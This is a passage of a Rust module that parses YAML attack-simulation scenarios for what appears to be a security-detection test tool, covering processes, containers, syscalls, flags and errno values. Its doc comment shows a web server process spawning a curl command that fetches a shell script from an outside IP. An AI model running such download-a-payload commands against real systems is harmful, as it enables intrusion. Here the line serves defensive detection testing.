//! Readable scenarios: the processes, users and containers of a machine
//! and a sequence of system calls, written in YAML and compiled to a scap
//! capture with our writer ([`build`]).
//!
//! ```yaml
//! hostname: web-1
//! containers:
//!   - name: frontend
//!     image: docker.io/library/nginx:1.25
//! processes:
//!   - {pid: 4000, exe: /usr/bin/containerd-shim-runc-v2}
//!   - {pid: 4100, ppid: 4000, container: frontend, exe: /usr/sbin/nginx, user: www-data}
//! events:
//!   - spawn: {pid: 4200, ppid: 4100, command: "curl -s http://203.0.113.9/x.sh"}
//!   - connect: {pid: 4200, to: "203.0.113.9:80"}
//!   - open: {pid: 4200, path: /tmp/x.sh, flags: [O_WRONLY, O_CREAT, O_TRUNC]}
//! ```
//!
//! The schema is documented in `docs/testing.md`. Parsing ([`parse`])
//! checks the shape and values of every key, with a diagnostic at the
//! exact place; building checks what depends on the sequence (a process
//! that does not exist yet, an fd that is not open) the same way.

pub mod build;

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;

use falconer_text::Span;
use falconer_yaml::{Node, NodeKind};

use crate::diag::{Diagnostic, SourceText};
use crate::yamlread::{Reader, Spanned};

pub use build::build;

/// 2024-01-01T00:00:00Z, the default start of a scenario.
pub const DEFAULT_START_NS: u64 = 1_704_067_200_000_000_000;

/// A parsed scenario, with the text it was read from (for diagnostics
/// while building).
#[derive(Clone, Debug)]
pub struct Scenario {
    pub src: Arc<SourceText>,
    pub span: Span,
    pub hostname: String,
    pub start_ns: u64,
    pub host_ip: Ipv4Addr,
    pub users: Vec<UserSpec>,
    pub containers: Vec<ContainerSpec>,
    pub processes: Vec<ProcessSpec>,
    pub events: Vec<EventSpec>,
}

#[derive(Clone, Debug)]
pub struct UserSpec {
    pub name: String,
    pub uid: u32,
    pub gid: u32,
    pub home: String,
    pub shell: String,
    pub span: Span,
}

#[derive(Clone, Debug)]
pub struct ContainerSpec {
    /// The 64-hex-digit id (`container.id` shows its first 12).
    pub full_id: String,
    pub name: String,
    pub image: String,
    pub privileged: bool,
    pub ip: Ipv4Addr,
    pub span: Span,
}

/// A user given by name or uid.
#[derive(Clone, Debug)]
pub enum UserRef {
    Name(Spanned<String>),
    Uid(Spanned<u32>),
}

/// What a process runs.
#[derive(Clone, Debug, Default)]
pub struct Program {
    /// The executable's path (`proc.exepath`).
    pub exe: String,
    /// `argv[0]` (`proc.exe`).
    pub argv0: String,
    pub args: Vec<String>,
    /// The kernel's `comm` (`proc.name`): the executable's base name cut
    /// to 15 bytes, unless given.
    pub comm: String,
}

#[derive(Clone, Debug)]
pub struct ProcessSpec {
    pub pid: Spanned<i64>,
    pub ppid: Option<Spanned<i64>>,
    pub program: Program,
    pub cwd: Option<String>,
    pub user: Option<UserRef>,
    pub gid: Option<u32>,
    pub env: Option<Vec<String>>,
    pub container: Option<Spanned<String>>,
    pub tty: bool,
    pub fds: Vec<FdSpec>,
    pub span: Span,
}

#[derive(Clone, Debug)]
pub enum FdKindSpec {
    File { path: String, flags: u32 },
    Listen { addr: SocketAddr, udp: bool },
}

#[derive(Clone, Debug)]
pub struct FdSpec {
    pub fd: Spanned<i64>,
    pub kind: FdKindSpec,
}

/// Which fd an event uses: a number, or the fd the process has open on a
/// path.
#[derive(Clone, Debug)]
pub enum FdRef {
    Num(Spanned<i64>),
    Path(Spanned<String>),
}

/// Where `connect` goes.
#[derive(Clone, Debug)]
pub enum Peer {
    Inet(SocketAddr),
    Unix(String),
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum OpenCall {
    Open,
    Openat,
    Openat2,
    Creat,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum RenameCall {
    Rename,
    Renameat,
    Renameat2,
}

#[derive(Clone, Debug)]
pub enum EventKind {
    Spawn {
        pid: Spanned<i64>,
        ppid: Spanned<i64>,
        program: Program,
        cwd: Option<String>,
        user: Option<UserRef>,
        env: Option<Vec<String>>,
        container: Option<Spanned<String>>,
    },
    Fork {
        pid: Spanned<i64>,
        ppid: Spanned<i64>,
    },
    Exec {
        pid: Spanned<i64>,
        program: Program,
        env: Option<Vec<String>>,
        error: Option<i64>,
    },
    Exit {
        pid: Spanned<i64>,
        status: i64,
    },
    Open {
        pid: Spanned<i64>,
        path: String,
        flags: u32,
        mode: u32,
        fd: Option<Spanned<i64>>,
        error: Option<i64>,
        call: OpenCall,
    },
    Close {
        pid: Spanned<i64>,
        fd: FdRef,
    },
    Read {
        pid: Spanned<i64>,
        fd: FdRef,
        data: Vec<u8>,
        error: Option<i64>,
    },
    Write {
        pid: Spanned<i64>,
        fd: FdRef,
        data: Vec<u8>,
        error: Option<i64>,
    },
    Connect {
        pid: Spanned<i64>,
        to: Peer,
        from: Option<SocketAddr>,
        udp: bool,
        fd: Option<Spanned<i64>>,
        error: Option<i64>,
    },
    Listen {
        pid: Spanned<i64>,
        on: SocketAddr,
        udp: bool,
        fd: Option<Spanned<i64>>,
    },
    Accept {
        pid: Spanned<i64>,
        fd: Option<Spanned<i64>>,
        from: SocketAddr,
        newfd: Option<Spanned<i64>>,
        error: Option<i64>,
    },
    Chmod {
        pid: Spanned<i64>,
        path: String,
        mode: u32,
        error: Option<i64>,
        at: bool,
    },
    Rename {
        pid: Spanned<i64>,
        from: String,
        to: String,
        error: Option<i64>,
        call: RenameCall,
    },
    Unlink {
        pid: Spanned<i64>,
        path: String,
        error: Option<i64>,
        at: bool,
    },
    Mkdir {
        pid: Spanned<i64>,
        path: String,
        mode: u32,
        error: Option<i64>,
    },
    Setuid {
        pid: Spanned<i64>,
        user: UserRef,
        error: Option<i64>,
    },
    Setgid {
        pid: Spanned<i64>,
        gid: u32,
        error: Option<i64>,
    },
    Chdir {
        pid: Spanned<i64>,
        path: String,
        error: Option<i64>,
    },
}

#[derive(Clone, Debug)]
pub struct EventSpec {
    pub kind: EventKind,
    /// The event's item in the file.
    pub span: Span,
    /// Its name (`open`, `spawn`...).
    pub name: String,
}

/// The event kinds, for messages and suggestions.
pub const EVENT_KINDS: &[&str] = &[
    "spawn", "fork", "exec", "exit", "open", "close", "read", "write", "connect", "listen",
    "accept", "chmod", "rename", "unlink", "mkdir", "setuid", "setgid", "chdir",
];

/// The driver's (PPM) open flags, by name.
pub const OPEN_FLAGS: &[(&str, u32)] = &[
    ("O_RDONLY", 1),
    ("O_WRONLY", 2),
    ("O_RDWR", 3),
    ("O_CREAT", 4),
    ("O_APPEND", 8),
    ("O_DSYNC", 16),
    ("O_EXCL", 32),
    ("O_NONBLOCK", 64),
    ("O_SYNC", 128),
    ("O_TRUNC", 256),
    ("O_DIRECT", 512),
    ("O_DIRECTORY", 1024),
    ("O_LARGEFILE", 2048),
    ("O_CLOEXEC", 4096),
    ("O_TMPFILE", 8192),
];

/// errno names the scenarios accept (Linux numbers).
pub const ERRNO: &[(&str, i64)] = &[
    ("EPERM", 1),
    ("ENOENT", 2),
    ("ESRCH", 3),
    ("EINTR", 4),
    ("EIO", 5),
    ("EBADF", 9),
    ("EAGAIN", 11),
    ("ENOMEM", 12),
    ("EACCES", 13),
    ("EFAULT", 14),
    ("EBUSY", 16),
    ("EEXIST", 17),
    ("EXDEV", 18),
    ("ENOTDIR", 20),
    ("EISDIR", 21),
    ("EINVAL", 22),
    ("EMFILE", 24),
    ("ETXTBSY", 26),
    ("ENOSPC", 28),
    ("EROFS", 30),
    ("EPIPE", 32),
    ("ENAMETOOLONG", 36),
    ("ENOTEMPTY", 39),
    ("ELOOP", 40),
    ("EADDRINUSE", 98),
    ("EADDRNOTAVAIL", 99),
    ("ENETUNREACH", 101),
    ("ECONNRESET", 104),
    ("ETIMEDOUT", 110),
    ("ECONNREFUSED", 111),
    ("EHOSTUNREACH", 113),
    ("EALREADY", 114),
    ("EINPROGRESS", 115),
];

const TOP_KEYS: &[&str] = &[
    "hostname",
    "start",
    "host_ip",
    "users",
    "containers",
    "processes",
    "events",
];

/// Parses a scenario file's text.
pub fn parse_file(src: Arc<SourceText>) -> Result<Scenario, Vec<Diagnostic>> {
    let yaml = falconer_yaml::parse(&src.text);
    if let Some(e) = yaml.errors.first() {
        return Err(vec![src.error("yaml-syntax", e.span, e.message.clone())]);
    }
    let root = yaml.documents.iter().find_map(|d| d.root.as_ref());
    let Some(root) = root else {
        return Err(vec![src.error(
            "scenario",
            Span::empty(0),
            "the scenario file is empty",
        )]);
    };
    parse_node(src.clone(), root)
}

/// Parses a scenario from a node of `src` (a scenario file's root, or a
/// test case's inline `scenario:`).
pub fn parse_node(src: Arc<SourceText>, n: &Node) -> Result<Scenario, Vec<Diagnostic>> {
    let mut r = Reader::new(&src, "scenario");
    let s = read_scenario(&mut r, src.clone(), n);
    if r.has_errors() {
        return Err(r.diags);
    }
    s.ok_or_else(|| vec![src.error("scenario", n.span, "invalid scenario")])
}

fn read_scenario(r: &mut Reader<'_>, src: Arc<SourceText>, n: &Node) -> Option<Scenario> {
    let entries = r.mapping(n, "a scenario", TOP_KEYS)?;
    let mut s = Scenario {
        src,
        span: n.span,
        hostname: "falconer-scenario".into(),
        start_ns: DEFAULT_START_NS,
        host_ip: Ipv4Addr::new(10, 0, 0, 5),
        users: Vec::new(),
        containers: Vec::new(),
        processes: Vec::new(),
        events: Vec::new(),
    };
    if let Some(v) = r.get(entries, "hostname") {
        if let Some(h) = r.nonempty(v, "hostname") {
            s.hostname = h.value;
        }
    }
    if let Some(v) = r.get(entries, "start") {
        if let Some(t) = r.string(v, "start") {
            match parse_time(&t.value) {
                Some(ns) => s.start_ns = ns,
                None => r.error(
                    v.span,
                    format!(
                        "start must be a UTC time like 2024-05-01T12:00:00Z or nanoseconds since the epoch, not '{}'",
                        t.value
                    ),
                ),
            }
        }
    }
    if let Some(v) = r.get(entries, "host_ip") {
        if let Some(t) = r.string(v, "host_ip") {
            match t.value.parse::<Ipv4Addr>() {
                Ok(ip) => s.host_ip = ip,
                Err(_) => r.error(
                    v.span,
                    format!("host_ip must be an IPv4 address, not '{}'", t.value),
                ),
            }
        }
    }
    if let Some(v) = r.get(entries, "users") {
        for u in r.sequence(v, "users").unwrap_or(&[]) {
            if let Some(u) = read_user(r, u) {
                s.users.push(u);
            }
        }
    }
    if let Some(v) = r.get(entries, "containers") {
        for (i, c) in r
            .sequence(v, "containers")
            .unwrap_or(&[])
            .iter()
            .enumerate()
        {
            if let Some(c) = read_container(r, c, i) {
                if s.containers.iter().any(|o| o.name == c.name) {
                    r.error(c.span, format!("container '{}' is declared twice", c.name));
                }
                s.containers.push(c);
            }
        }
    }
    if let Some(v) = r.get(entries, "processes") {
        for p in r.sequence(v, "processes").unwrap_or(&[]) {
            if let Some(p) = read_process(r, p) {
                if s.processes.iter().any(|o| o.pid.value == p.pid.value) {
                    r.error(p.pid.span, format!("pid {} is declared twice", p.pid.value));
                }
                s.processes.push(p);
            }
        }
    }
    if let Some(v) = r.get(entries, "events") {
        for e in r.sequence(v, "events").unwrap_or(&[]) {
            if let Some(e) = read_event(r, e) {
                s.events.push(e);
            }
        }
    }
    Some(s)
}

/// `2024-05-01T12:00:00Z` (optionally with a fraction) or an integer of
/// nanoseconds since the epoch.
pub fn parse_time(s: &str) -> Option<u64> {
    if let Ok(n) = s.parse::<u64>() {
        return Some(n);
    }
    let s = s.strip_suffix('Z')?;
    let (date, time) = s.split_once('T')?;
    let mut d = date.split('-');
    let (y, m, day): (i64, i64, i64) = (
        d.next()?.parse().ok()?,
        d.next()?.parse().ok()?,
        d.next()?.parse().ok()?,
    );
    if d.next().is_some()
        || !(1970..=2200).contains(&y)
        || !(1..=12).contains(&m)
        || !(1..=31).contains(&day)
    {
        return None;
    }
    let (hms, frac) = match time.split_once('.') {
        Some((a, b)) => (a, Some(b)),
        None => (time, None),
    };
    let mut t = hms.split(':');
    let (hh, mm, ss): (u64, u64, u64) = (
        t.next()?.parse().ok()?,
        t.next()?.parse().ok()?,
        t.next()?.parse().ok()?,
    );
    if t.next().is_some() || hh > 23 || mm > 59 || ss > 60 {
        return None;
    }
    // Days from the civil date (Howard Hinnant's algorithm).
    let y2 = if m <= 2 { y - 1 } else { y };
    let era = y2.div_euclid(400);
    let yoe = y2 - era * 400;
    let mp = (m + 9) % 12;
    let doy = (153 * mp + 2) / 5 + day - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    let days = era * 146_097 + doe - 719_468;
    let mut ns = (days as u64 * 86_400 + hh * 3600 + mm * 60 + ss) * 1_000_000_000;
    if let Some(f) = frac {
        if f.is_empty() || f.len() > 9 || !f.bytes().all(|b| b.is_ascii_digit()) {
            return None;
        }
        let v: u64 = f.parse().ok()?;
        ns += v * 10u64.pow(9 - f.len() as u32);
    }
    Some(ns)
}

fn read_user(r: &mut Reader<'_>, n: &Node) -> Option<UserSpec> {
    let e = r.mapping(n, "a user", &["name", "uid", "gid", "home", "shell"])?;
    let name = r
        .require(e, "name", "a user", n.span)
        .and_then(|v| r.nonempty(v, "name"))?;
    let uid = r
        .require(e, "uid", "a user", n.span)
        .and_then(|v| r.uint(v, "uid", u32::MAX as u64 - 1))?;
    let gid = match r.get(e, "gid") {
        Some(v) => r.uint(v, "gid", u32::MAX as u64 - 1)?.value as u32,
        None => uid.value as u32,
    };
    let home = match r.get(e, "home") {
        Some(v) => r.string(v, "home")?.value,
        None if uid.value == 0 => "/root".into(),
        None => format!("/home/{}", name.value),
    };
    let shell = match r.get(e, "shell") {
        Some(v) => r.string(v, "shell")?.value,
        None => "/bin/bash".into(),
    };
    Some(UserSpec {
        name: name.value,
        uid: uid.value as u32,
        gid,
        home,
        shell,
        span: n.span,
    })
}

/// A deterministic 64-hex-digit id from a seed text (FNV-1a, chained).
fn hex_id(seed: &str) -> String {
    let mut out = String::with_capacity(64);
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    let mut round = 0u8;
    while out.len() < 64 {
        for b in seed.bytes().chain([round]) {
            h ^= b as u64;
            h = h.wrapping_mul(0x0100_0000_01b3);
        }
        out.push_str(&format!("{h:016x}"));
        round += 1;
    }
    out.truncate(64);
    out
}

fn read_container(r: &mut Reader<'_>, n: &Node, index: usize) -> Option<ContainerSpec> {
    let e = r.mapping(
        n,
        "a container",
        &["id", "name", "image", "privileged", "ip"],
    )?;
    let name = r
        .require(e, "name", "a container", n.span)
        .and_then(|v| r.nonempty(v, "name"))?;
    let image = r
        .require(e, "image", "a container", n.span)
        .and_then(|v| r.nonempty(v, "image"))?;
    let full_id = match r.get(e, "id") {
        Some(v) => {
            let id = r.string(v, "id")?;
            let t = id.value.to_ascii_lowercase();
            let hex = t.bytes().all(|b| b.is_ascii_hexdigit());
            if !hex || !(t.len() == 12 || t.len() == 64) {
                r.error(
                    v.span,
                    format!(
                        "a container id is 12 or 64 hexadecimal digits, not '{}'",
                        id.value
                    ),
                );
                return None;
            }
            if t.len() == 64 {
                t
            } else {
                // The first 12 digits are what `container.id` shows.
                format!("{t}{}", &hex_id(&t)[12..])
            }
        }
        None => hex_id(&name.value),
    };
    let privileged = match r.get(e, "privileged") {
        Some(v) => r.boolean(v, "privileged")?,
        None => false,
    };
    let ip = match r.get(e, "ip") {
        Some(v) => {
            let t = r.string(v, "ip")?;
            match t.value.parse::<Ipv4Addr>() {
                Ok(ip) => ip,
                Err(_) => {
                    r.error(
                        v.span,
                        format!("ip must be an IPv4 address, not '{}'", t.value),
                    );
                    return None;
                }
            }
        }
        None => Ipv4Addr::new(172, 17, 0, 2 + index.min(250) as u8),
    };
    Some(ContainerSpec {
        full_id,
        name: name.value,
        image: image.value,
        privileged,
        ip,
        span: n.span,
    })
}

/// Splits a command line on blanks; single and double quotes group.
fn split_command(s: &str) -> Option<Vec<String>> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut has = false;
    let mut quote: Option<char> = None;
    for c in s.chars() {
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => cur.push(c),
            None if c == '"' || c == '\'' => {
                quote = Some(c);
                has = true;
            }
            None if c.is_whitespace() => {
                if has {
                    out.push(std::mem::take(&mut cur));
                    has = false;
                }
            }
            None => {
                cur.push(c);
                has = true;
            }
        }
    }
    if quote.is_some() {
        return None;
    }
    if has {
        out.push(cur);
    }
    Some(out)
}

/// The kernel's comm: the base name, cut to 15 bytes.
pub fn comm_of(exe: &str) -> String {
    let base = exe.rsplit('/').next().unwrap_or(exe);
    let mut end = base.len().min(15);
    while !base.is_char_boundary(end) {
        end -= 1;
    }
    base[..end].to_string()
}

const PROGRAM_KEYS: &[&str] = &["exe", "command", "args", "name"];

fn read_program(
    r: &mut Reader<'_>,
    e: &[falconer_yaml::Entry],
    at: Span,
    what: &str,
) -> Option<Program> {
    let exe = match r.get(e, "exe") {
        Some(v) => Some(r.nonempty(v, "exe")?),
        None => None,
    };
    let command = match r.get(e, "command") {
        Some(v) => {
            let c = r.nonempty(v, "command")?;
            match split_command(&c.value) {
                Some(words) if !words.is_empty() => Some((words, c.span)),
                _ => {
                    r.error(c.span, "command has an unterminated quote");
                    return None;
                }
            }
        }
        None => None,
    };
    let args_node = r.get(e, "args");
    if command.is_some() && args_node.is_some() {
        r.error(
            at,
            format!("{what}: give either 'command' or 'args', not both"),
        );
        return None;
    }
    let mut p = Program::default();
    match (&exe, &command) {
        (None, None) => {
            r.error(at, format!("{what} needs 'exe' or 'command'"));
            return None;
        }
        (Some(x), None) => {
            p.exe = x.value.clone();
            p.argv0 = x.value.clone();
        }
        (x, Some((words, _))) => {
            p.argv0 = words[0].clone();
            p.args = words[1..].to_vec();
            p.exe = match x {
                Some(x) => x.value.clone(),
                None if words[0].contains('/') => words[0].clone(),
                None => format!("/usr/bin/{}", words[0]),
            };
        }
    }
    if let Some(v) = args_node {
        p.args = r.strings(v, "args")?.into_iter().map(|s| s.value).collect();
    }
    p.comm = match r.get(e, "name") {
        Some(v) => {
            let n = r.nonempty(v, "name")?;
            if n.value.len() > 15 {
                r.error(v.span, "name (the kernel's comm) is at most 15 bytes");
                return None;
            }
            n.value
        }
        None => comm_of(&p.exe),
    };
    Some(p)
}

fn read_user_ref(
    r: &mut Reader<'_>,
    e: &[falconer_yaml::Entry],
    n: &Node,
) -> Option<Option<UserRef>> {
    match (r.get(e, "user"), r.get(e, "uid")) {
        (Some(_), Some(_)) => {
            r.error(n.span, "give either 'user' (a name) or 'uid', not both");
            None
        }
        (Some(v), None) => {
            let s = r.nonempty(v, "user")?;
            Some(Some(UserRef::Name(s)))
        }
        (None, Some(v)) => {
            let u = r.uint(v, "uid", u32::MAX as u64 - 1)?;
            Some(Some(UserRef::Uid(Spanned::new(u.value as u32, u.span))))
        }
        (None, None) => Some(None),
    }
}

fn read_env(r: &mut Reader<'_>, n: &Node) -> Option<Vec<String>> {
    match &n.kind {
        NodeKind::Mapping { entries, .. } => {
            let mut out = Vec::new();
            for e in entries {
                let k = r.string(&e.key, "an environment variable name")?;
                let v = r.string(&e.value, "an environment variable value")?;
                out.push(format!("{}={}", k.value, v.value));
            }
            Some(out)
        }
        _ => {
            let list = r.strings(n, "env")?;
            for s in &list {
                if !s.value.contains('=') {
                    r.error(
                        s.span,
                        format!("env entries are NAME=value, not '{}'", s.value),
                    );
                    return None;
                }
            }
            Some(list.into_iter().map(|s| s.value).collect())
        }
    }
}

fn pid_of(r: &mut Reader<'_>, n: &Node, what: &str) -> Option<Spanned<i64>> {
    let v = r.int(n, what)?;
    if !(1..=4_194_304).contains(&v.value) {
        r.error(n.span, format!("{what} must be between 1 and 4194304"));
        return None;
    }
    Some(v)
}

fn fd_of(r: &mut Reader<'_>, n: &Node, what: &str) -> Option<Spanned<i64>> {
    let v = r.int(n, what)?;
    if !(0..=1_048_575).contains(&v.value) {
        r.error(n.span, format!("{what} must be between 0 and 1048575"));
        return None;
    }
    Some(v)
}

fn parse_flags(r: &mut Reader<'_>, n: &Node) -> Option<u32> {
    let words: Vec<Spanned<String>> = match &n.kind {
        NodeKind::Scalar(_) => {
            let s = r.string(n, "flags")?;
            s.value
                .split('|')
                .map(|w| Spanned::new(w.trim().to_string(), s.span))
                .collect()
        }
        _ => r.strings(n, "flags")?,
    };
    let mut bits = 0u32;
    for w in &words {
        let name = w.value.to_ascii_uppercase();
        let name = if name.starts_with("O_") {
            name
        } else {
            format!("O_{name}")
        };
        match OPEN_FLAGS.iter().find(|(k, _)| *k == name) {
            Some((_, b)) => bits |= b,
            None => {
                let names: Vec<&str> = OPEN_FLAGS.iter().map(|(k, _)| *k).collect();
                let hint = match falconer_text::suggest(&name, names.iter().copied()) {
                    Some(s) => format!(" (did you mean {s}?)"),
                    None => format!(" (known: {})", names.join(", ")),
                };
                r.error(w.span, format!("unknown open flag '{}'{hint}", w.value));
                return None;
            }
        }
    }
    // The driver always reports an access mode (O_RDONLY is 1 in its
    // encoding).
    if bits & 3 == 0 {
        bits |= 1;
    }
    Some(bits)
}

fn parse_error(r: &mut Reader<'_>, n: &Node) -> Option<i64> {
    let s = r.string(n, "error")?;
    let t = s.value.trim();
    if let Some((_, v)) = ERRNO.iter().find(|(k, _)| *k == t) {
        return Some(*v);
    }
    if let Ok(v) = t.trim_start_matches('-').parse::<i64>() {
        if (1..4096).contains(&v) {
            return Some(v);
        }
    }
    let names: Vec<&str> = ERRNO.iter().map(|(k, _)| *k).collect();
    let hint = match falconer_text::suggest(t, names.iter().copied()) {
        Some(h) => format!(" (did you mean {h}?)"),
        None => " (an errno name such as ENOENT, or its number)".into(),
    };
    r.error(n.span, format!("unknown error '{t}'{hint}"));
    None
}

fn parse_sockaddr(r: &mut Reader<'_>, n: &Node, what: &str) -> Option<SocketAddr> {
    let s = r.string(n, what)?;
    match s.value.trim().parse::<SocketAddr>() {
        Ok(a) => Some(a),
        Err(_) => {
            r.error(
                n.span,
                format!(
                    "{what} must be ADDRESS:PORT (IPv6 as [ADDRESS]:PORT), not '{}'",
                    s.value
                ),
            );
            None
        }
    }
}

fn parse_proto(r: &mut Reader<'_>, e: &[falconer_yaml::Entry]) -> Option<bool> {
    match r.get(e, "proto") {
        None => Some(false),
        Some(v) => match r.string(v, "proto")?.value.as_str() {
            "tcp" => Some(false),
            "udp" => Some(true),
            other => {
                r.error(v.span, format!("proto must be tcp or udp, not '{other}'"));
                None
            }
        },
    }
}

fn read_fdspec(r: &mut Reader<'_>, n: &Node) -> Option<FdSpec> {
    let e = r.mapping(n, "an fd", &["fd", "file", "flags", "listen", "proto"])?;
    let fd = r
        .require(e, "fd", "an fd", n.span)
        .and_then(|v| fd_of(r, v, "fd"))?;
    let kind = match (r.get(e, "file"), r.get(e, "listen")) {
        (Some(f), None) => FdKindSpec::File {
            path: r.nonempty(f, "file")?.value,
            flags: match r.get(e, "flags") {
                Some(v) => parse_flags(r, v)?,
                None => 1,
            },
        },
        (None, Some(l)) => FdKindSpec::Listen {
            addr: parse_sockaddr(r, l, "listen")?,
            udp: parse_proto(r, e)?,
        },
        _ => {
            r.error(n.span, "an fd needs either 'file' or 'listen'");
            return None;
        }
    };
    Some(FdSpec { fd, kind })
}

fn read_process(r: &mut Reader<'_>, n: &Node) -> Option<ProcessSpec> {
    let mut keys: Vec<&str> = vec![
        "pid",
        "ppid",
        "cwd",
        "user",
        "uid",
        "gid",
        "env",
        "container",
        "tty",
        "fds",
    ];
    keys.extend_from_slice(PROGRAM_KEYS);
    let e = r.mapping(n, "a process", &keys)?;
    let pid = r
        .require(e, "pid", "a process", n.span)
        .and_then(|v| pid_of(r, v, "pid"))?;
    let ppid = match r.get(e, "ppid") {
        Some(v) => {
            let p = r.int(v, "ppid")?;
            if p.value < 0 {
                r.error(v.span, "ppid must not be negative");
                return None;
            }
            Some(p)
        }
        None => None,
    };
    let program = read_program(r, e, n.span, "a process")?;
    let cwd = match r.get(e, "cwd") {
        Some(v) => Some(r.nonempty(v, "cwd")?.value),
        None => None,
    };
    let user = read_user_ref(r, e, n)?;
    let gid = match r.get(e, "gid") {
        Some(v) => Some(r.uint(v, "gid", u32::MAX as u64 - 1)?.value as u32),
        None => None,
    };
    let env = match r.get(e, "env") {
        Some(v) => Some(read_env(r, v)?),
        None => None,
    };
    let container = match r.get(e, "container") {
        Some(v) => Some(r.nonempty(v, "container")?),
        None => None,
    };
    let tty = match r.get(e, "tty") {
        Some(v) => r.boolean(v, "tty")?,
        None => false,
    };
    let mut fds = Vec::new();
    if let Some(v) = r.get(e, "fds") {
        for f in r.sequence(v, "fds")? {
            fds.push(read_fdspec(r, f)?);
        }
    }
    Some(ProcessSpec {
        pid,
        ppid,
        program,
        cwd,
        user,
        gid,
        env,
        container,
        tty,
        fds,
        span: n.span,
    })
}

fn read_fdref(r: &mut Reader<'_>, e: &[falconer_yaml::Entry], n: &Node) -> Option<FdRef> {
    match (r.get(e, "fd"), r.get(e, "path")) {
        (Some(v), None) => Some(FdRef::Num(fd_of(r, v, "fd")?)),
        (None, Some(v)) => Some(FdRef::Path(r.nonempty(v, "path")?)),
        (Some(_), Some(_)) => {
            r.error(
                n.span,
                "give either 'fd' or 'path' (the file the process has open), not both",
            );
            None
        }
        (None, None) => {
            r.error(n.span, "needs 'fd' or 'path' (a file the process has open)");
            None
        }
    }
}

/// A required, non-empty text value.
fn required_text(
    r: &mut Reader<'_>,
    e: &[falconer_yaml::Entry],
    key: &str,
    what: &str,
    at: falconer_text::Span,
) -> Option<String> {
    r.require(e, key, what, at)
        .and_then(|v| r.nonempty(v, key))
        .map(|s| s.value)
}

/// The optional `syscall:` key: one of `choices` (`default` when absent).
fn syscall_choice<T: Copy>(
    r: &mut Reader<'_>,
    e: &[falconer_yaml::Entry],
    default: T,
    choices: &[(&str, T)],
) -> Option<T> {
    let Some(v) = r.get(e, "syscall") else {
        return Some(default);
    };
    let name = r.string(v, "syscall")?.value;
    if let Some((_, c)) = choices.iter().find(|(n, _)| *n == name) {
        return Some(*c);
    }
    let names: Vec<&str> = choices.iter().map(|(n, _)| *n).collect();
    let (last, rest) = names.split_last().expect("choices are given");
    r.error(
        v.span,
        format!(
            "syscall must be {} or {last}, not '{name}'",
            rest.join(", ")
        ),
    );
    None
}

fn opt<T>(
    r: &mut Reader<'_>,
    e: &[falconer_yaml::Entry],
    key: &str,
    f: impl FnOnce(&mut Reader<'_>, &Node) -> Option<T>,
) -> Option<Option<T>> {
    match r.get(e, key) {
        Some(v) => f(r, v).map(Some),
        None => Some(None),
    }
}

fn mode_of(r: &mut Reader<'_>, n: &Node) -> Option<u32> {
    let s = r.string(n, "mode")?;
    let t = s.value.trim();
    // Modes are octal, written with or without a leading 0.
    let digits = t.strip_prefix("0o").unwrap_or(t);
    match u32::from_str_radix(digits, 8) {
        Ok(v) if v <= 0o7777 => Some(v),
        _ => {
            r.error(
                n.span,
                format!("mode must be octal permissions such as 0644, not '{t}'"),
            );
            None
        }
    }
}

fn read_event(r: &mut Reader<'_>, n: &Node) -> Option<EventSpec> {
    let Some(entries) = n.as_mapping() else {
        r.error(
            n.span,
            format!(
                "an event is a mapping with one key, the event kind ({})",
                EVENT_KINDS.join(", ")
            ),
        );
        return None;
    };
    if entries.len() != 1 {
        r.error(
            n.span,
            "an event has exactly one key, its kind (write `- open: {pid: 1, path: /etc/x}`)",
        );
        return None;
    }
    let key = &entries[0].key;
    let Some(kind) = key.as_str() else {
        r.error(key.span, "the event kind must be a name");
        return None;
    };
    if !EVENT_KINDS.contains(&kind) {
        let hint = match falconer_text::suggest(kind, EVENT_KINDS.iter().copied()) {
            Some(s) => format!(" (did you mean '{s}'?)"),
            None => format!(" (known: {})", EVENT_KINDS.join(", ")),
        };
        r.error(key.span, format!("unknown event kind '{kind}'{hint}"));
        return None;
    }
    let body = &entries[0].value;
    let what = format!("a {kind} event");
    let pid_key = |r: &mut Reader<'_>, e: &[falconer_yaml::Entry]| {
        r.require(e, "pid", &what, body.span)
            .and_then(|v| pid_of(r, v, "pid"))
    };
    let ev = match kind {
        "spawn" => {
            let mut keys = vec!["pid", "ppid", "cwd", "user", "uid", "env", "container"];
            keys.extend_from_slice(PROGRAM_KEYS);
            let e = r.mapping(body, &what, &keys)?;
            let pid = pid_key(r, e)?;
            let ppid = r
                .require(e, "ppid", &what, body.span)
                .and_then(|v| pid_of(r, v, "ppid"))?;
            let program = read_program(r, e, body.span, &what)?;
            let cwd = opt(r, e, "cwd", |r, v| r.nonempty(v, "cwd").map(|s| s.value))?;
            let user = read_user_ref(r, e, body)?;
            let env = opt(r, e, "env", read_env)?;
            let container = opt(r, e, "container", |r, v| r.nonempty(v, "container"))?;
            EventKind::Spawn {
                pid,
                ppid,
                program,
                cwd,
                user,
                env,
                container,
            }
        }
        "fork" => {
            let e = r.mapping(body, &what, &["pid", "ppid"])?;
            let pid = pid_key(r, e)?;
            let ppid = r
                .require(e, "ppid", &what, body.span)
                .and_then(|v| pid_of(r, v, "ppid"))?;
            EventKind::Fork { pid, ppid }
        }
        "exec" => {
            let mut keys = vec!["pid", "env", "error"];
            keys.extend_from_slice(PROGRAM_KEYS);
            let e = r.mapping(body, &what, &keys)?;
            let pid = pid_key(r, e)?;
            let program = read_program(r, e, body.span, &what)?;
            let env = opt(r, e, "env", read_env)?;
            let error = opt(r, e, "error", parse_error)?;
            EventKind::Exec {
                pid,
                program,
                env,
                error,
            }
        }
        "exit" => {
            let e = r.mapping(body, &what, &["pid", "status"])?;
            let pid = pid_key(r, e)?;
            let status =
                opt(r, e, "status", |r, v| r.int(v, "status").map(|s| s.value))?.unwrap_or(0);
            EventKind::Exit { pid, status }
        }
        "open" => {
            let e = r.mapping(
                body,
                &what,
                &["pid", "path", "flags", "mode", "fd", "error", "syscall"],
            )?;
            let pid = pid_key(r, e)?;
            let path = required_text(r, e, "path", &what, body.span)?;
            let flags = opt(r, e, "flags", parse_flags)?.unwrap_or(1);
            let mode = opt(r, e, "mode", mode_of)?.unwrap_or(0);
